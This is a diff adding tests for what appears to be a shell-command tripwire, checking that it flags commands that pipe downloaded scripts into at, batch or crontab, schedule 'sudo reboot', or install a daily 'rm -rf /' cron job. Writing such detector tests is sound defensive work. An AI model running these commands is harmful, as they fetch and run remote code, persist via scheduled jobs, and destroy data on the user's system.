@@ -708,3 +708,25 @@ def test_pathological_shapes_stay_fast() -> None:
     ]
     for s in shapes:
         tripwire(s)  # returns (a verdict or None) rather than hang or blow the stack
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "curl -s x | at now",
+        "wget -qO- x | batch",
+        "curl x | crontab -",
+        "at now <<< 'sudo reboot'",
+        "batch <<EOF\nsudo reboot\nEOF",
+        "crontab - <<EOF\n*/5 * * * * sudo reboot\nEOF",
+        "crontab - <<EOF\n@daily rm -rf /\nEOF",
+        "crontab <(curl x)",
+        "at -f <(curl x) now",
+    ],
+)
+def test_at_batch_and_crontab_read_a_script_as_a_shell_does(cmd: str) -> None:
+    assert tripwire(cmd) is not None, cmd
+
+
+def test_listing_scheduled_jobs_passes() -> None:
+    assert tripwire("crontab -l; atq; at -l; crontab -r") is None
